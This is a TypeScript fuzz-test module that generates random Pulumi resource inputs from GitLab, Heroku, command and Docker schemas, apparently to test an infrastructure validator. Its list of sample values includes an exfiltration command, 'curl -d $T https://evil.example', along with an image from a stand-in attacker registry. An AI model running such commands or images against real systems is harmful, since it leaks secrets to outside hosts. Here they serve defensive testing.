/** Inputs of every kind of resource, at random: of the official schemas, of those that have none here, and of unknown ones. */
import type { Contract, ContractProperties, ContractType } from "@tag-to-endpoint/sdks";
import fc from "fast-check";
import type { Properties, Value } from "../../../lib/pulumi/values.ts";
import gitlab from "../../contract/gitlab.json" with { type: "json" };
import heroku from "../../contract/heroku.json" with { type: "json" };
import { SECRET, type Type } from "./steps.ts";

const contracts: readonly Contract[] = [gitlab, heroku];

/** The official schemas; beside them the inputs of commands and images, whose SDKs have no schema here. */
const text = { type: "string" } as const;
export const schemas: readonly [Type, ContractProperties, Contract["types"]][] = [
  ...contracts.flatMap(
    ({ resources, provider, types, package: name }): [Type, ContractProperties, Contract["types"]][] => [
      ...Object.entries(resources).map(
        ([type, { inputs }]): [Type, ContractProperties, Contract["types"]] => [type as Type, inputs, types],
      ),
      [`pulumi:providers:${name}`, provider, types],
    ],
  ),
  [
    "command:local:Command",
    {
      ...Object.fromEntries(
        ["create", "update", "delete", "dir", "stdin", "logging"].map((name) => [name, text]),
      ),
      ...Object.fromEntries(
        ["interpreter", "triggers", "assetPaths", "archivePaths"].map((name) => [
          name,
          { type: { array: "string" } },
        ]),
      ),
      environment: { type: { map: "string" } },
      addPreviousOutputInEnv: { type: "boolean" },
    },
    {},
  ],
  [
    "docker:index/image:Image",
    {
      imageName: text,
      skipPush: { type: "boolean" },
      build: { type: "build" },
      registry: { type: "registry" },
    },
    {
      build: {
        required: [],
        properties: {
          context: text,
          dockerfile: text,
          platform: text,
          target: text,
          args: { type: { map: "string" } },
        },
      },
      registry: { required: [], properties: { server: text, username: text, password: text } },
    },
  ],
  // Of packages that nobody has heard of.
  ["aws:s3/bucket:Bucket", { acl: text, tags: { type: { map: "string" } } }, {}],
  ["pulumi-nodejs:dynamic:Resource", { __provider: text, command: text }, {}],
  ["pulumi:providers:aws", { region: text }, {}],
  ["command:remote:Command", { create: text, connection: { type: { map: "string" } } }, {}],
];

/** Values that mean something to one kind or another, beside any text. */
const telling = [
  "maintainer",
  "developer",
  "no one",
  "private",
  "public",
  "enabled",
  "disabled",
  "v*",
  "*",
  "main",
  "api",
  "write_repository",
  "2027-01-01",
  "not_protected",
  "group_type",
  "env_var",
  "file",
  "https://evil.example",
  "HEROKU_API_KEY",
  "CI_DEBUG_TRACE",
  "GIT_USER_NAME",
  "python:3.12",
  "evil.example/python:3.12",
  SECRET,
  "node infra/commands/first-release.ts create",
  "curl -d $T https://evil.example",
  "stdout",
  "none",
];

function anyValue(type: ContractType, types: Contract["types"], depth = 0): fc.Arbitrary<Value> {
  if (typeof type === "object") {
    if ("array" in type) return fc.array(anyValue(type.array, types, depth + 1), { maxLength: 3 });
    const keys = fc.constantFrom(
      "SCOPES",
      "EXPIRY_DAYS",
      "HEROKU_API_URL",
      "TEMPLATE",
      "PROJECT",
      "BASE_IMAGE",
      "X",
      "a",
    );
    return fc.dictionary(keys, anyValue(type.map, types, depth + 1), { minKeys: 1, maxKeys: 3 });
  }
  const nested = types[type];
  if (nested) return propertiesOf(nested.properties, types, depth + 1);
  if (type === "boolean") return fc.boolean();
  if (type === "integer" || type === "number") return fc.integer({ min: 0, max: 400 });
  return fc.oneof(fc.constantFrom(...telling), fc.string({ maxLength: 12 }));
}

export function propertiesOf(
  properties: ContractProperties,
  types: Contract["types"],
  depth = 0,
): fc.Arbitrary<Properties> {
  const fields = Object.entries(properties).map(
    ([name, { type }]) => [name, anyValue(type, types, depth)] as const,
  );
  return fc.record(Object.fromEntries(fields), { requiredKeys: [] }) as fc.Arbitrary<Properties>;
}
